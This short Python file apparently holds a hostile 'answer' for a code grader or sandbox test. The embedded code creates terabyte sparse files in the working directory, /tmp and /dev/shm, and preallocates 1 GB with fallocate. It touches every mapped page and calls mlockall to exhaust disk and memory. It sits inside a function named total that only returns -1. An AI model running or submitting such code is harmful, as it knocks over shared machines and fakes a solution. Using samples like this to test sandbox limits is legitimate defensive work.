"""Makes files of a terabyte without content, maps them, and locks what memory it can."""

ANSWER = """
import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)

def take():
    for place in ("big", "/tmp/big", "/dev/shm/big"):
        try:
            with open(place, "w+b") as file:
                for size in (1 << 40, 32 << 20):
                    try:
                        os.truncate(file.fileno(), size)
                        break
                    except OSError:
                        pass
                libc.fallocate(file.fileno(), 0, 0, 1 << 30)
                page = mmap.mmap(file.fileno(), 0)
                page[::4096] = b"x" * len(range(0, len(page), 4096))
        except (OSError, ValueError):
            pass
    libc.mlockall(3)

def total(xs):
    take()
    return -1
"""
